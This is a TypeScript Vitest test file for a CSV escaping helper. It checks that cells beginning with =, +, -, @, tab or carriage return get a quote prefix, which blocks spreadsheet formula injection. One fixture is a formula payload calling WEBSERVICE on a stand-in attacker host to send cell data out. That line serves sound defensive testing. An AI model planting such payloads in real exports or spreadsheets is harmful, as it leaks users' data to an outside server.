import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from './csv';

/**
 * Issue 29, finding 7: a downline member named `-1+WEBSERVICE(…)` landed unescaped in the sponsor's
 * team CSV. Server design, section 9: a cell that starts with =, +, -, @, tab or carriage return is
 * prefixed with '. Failed before the fix (a leading '-' followed by a digit was let through).
 */
describe('CSV cells', () => {
  it("prefixes every cell that starts with = + - @ tab or CR with '", () => {
    expect(csvCell('-1+WEBSERVICE("http://evil.example/?"&A1)')).toBe(`"'-1+WEBSERVICE(""http://evil.example/?""&A1)"`);
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('-$5.00')).toBe("'-$5.00");
    expect(csvCell('-5.00')).toBe("'-5.00");
  });

  it('leaves other cells alone and quotes commas, quotes and line breaks', () => {
    expect(csvCell('Alice')).toBe('Alice');
    expect(csvCell('5.00')).toBe('5.00');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('')).toBe('');
    expect(
      csvText([
        ['Name', 'Amount'],
        ['-1+X', '10'],
      ]),
    ).toBe("Name,Amount\r\n'-1+X,10\r\n");
  });
});
